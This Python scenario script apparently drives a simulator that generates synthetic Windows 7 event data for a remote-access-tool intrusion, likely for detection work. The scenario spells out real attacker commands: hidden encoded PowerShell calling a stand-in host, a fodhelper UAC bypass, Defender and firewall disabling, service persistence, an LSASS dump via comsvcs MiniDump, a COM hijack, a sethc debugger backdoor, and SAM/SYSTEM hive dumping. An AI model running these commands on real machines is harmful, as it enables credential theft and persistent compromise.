"""A remote access tool on Windows 7: dropped by a script, hidden PowerShell, a service through services.exe, Defender and
the firewall turned off, an elevation by the ms-settings handler, LSASS dumped with comsvcs, a hijacked COM class."""
from scenery import Desktop

SETTING = {"start": "2019-05-14T19:40:33", "user": "SALON\\Étienne", "home": "C:\\Users\\Étienne", "computer": "SALON",
           "os_version": (6, 1, 7601)}
POLICY = r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender"


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    script = c.home + r"\Downloads\facture.pdf.js"
    agent = c.home + r"\AppData\Roaming\Nvidia\nvsync.exe"
    desktop.murmur(8)
    host = c.spawn(desktop.explorer, system32 + "wscript.exe", '"%swscript.exe" "%s" ' % (system32, script))
    shell = c.spawn(host, system32 + r"WindowsPowerShell\v1.0\powershell.exe",
                    "powershell.exe -nop -w hidden -enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" * 6)
    c.exchange(shell, ("203.0.113.40", 8080), 49310, [300], [60000])
    c.folder(shell, c.home + r"\AppData\Roaming\Nvidia")
    c.drop(shell, agent, 311296)
    tool = c.spawn(shell, agent, is_64bit=False)
    c.exit(shell)
    c.exit(host)
    handler = r"HKCU\Software\Classes\ms-settings\Shell\Open\command"
    c.key(tool, handler, new=True)
    c.set_value(tool, handler + r"\(Default)", "REG_SZ", agent)
    c.set_value(tool, handler + r"\DelegateExecute", "REG_SZ", "")
    helper = c.spawn(tool, system32 + "fodhelper.exe", "fodhelper.exe", company="Microsoft Corporation")
    elevated = c.spawn(helper, agent, agent, integrity="High", is_64bit=False)
    c.exit(helper)
    c.set_value(elevated, POLICY + r"\DisableAntiSpyware", "REG_DWORD", 1)
    c.set_value(elevated, POLICY + r"\Real-Time Protection\DisableRealtimeMonitoring", "REG_DWORD", 1)
    wall = c.spawn(elevated, system32 + "netsh.exe", "netsh advfirewall set allprofiles state off")
    c.exit(wall)
    control = c.spawn(elevated, system32 + "sc.exe", 'sc create NvSync binPath= "%s -s" start= auto' % agent)
    c.key(desktop.services, r"HKLM\System\CurrentControlSet\Services\NvSync", new=True)
    c.set_value(desktop.services, r"HKLM\System\CurrentControlSet\Services\NvSync\ImagePath", "REG_EXPAND_SZ",
                '"%s" -s' % agent)
    c.exit(control)
    service = c.spawn(desktop.services, agent, '"%s" -s' % agent, session=0, integrity="System")
    dump = c.spawn(elevated, system32 + "rundll32.exe",
                   r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 612 C:\Windows\Temp\l.dmp full")
    c.drop(dump, r"C:\Windows\Temp\l.dmp", 50_000_000, chunk=5_000_000)
    c.exit(dump)
    clsid = r"HKCU\Software\Classes\CLSID\{42aedc87-2188-41fd-b9a3-0c966feabec1}\InProcServer32"
    c.key(elevated, clsid, new=True)
    c.drop(elevated, c.home + r"\AppData\Roaming\Nvidia\nvcom.dll", 90112)
    c.set_value(elevated, clsid + r"\(Default)", "REG_SZ", c.home + r"\AppData\Roaming\Nvidia\nvcom.dll")
    c.set_value(elevated, r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
                          r"\sethc.exe\Debugger", "REG_SZ", agent)
    for hive in ("SAM", "SYSTEM"):
        save = c.spawn(elevated, system32 + "reg.exe", r"reg save HKLM\%s C:\Windows\Temp\%s.hiv" % (hive, hive.lower()))
        c.exit(save)
    for _ in range(3):
        c.exchange(service, ("203.0.113.40", 4782), 49330, [120], [88])
        c.wait(5)
    desktop.murmur(6)
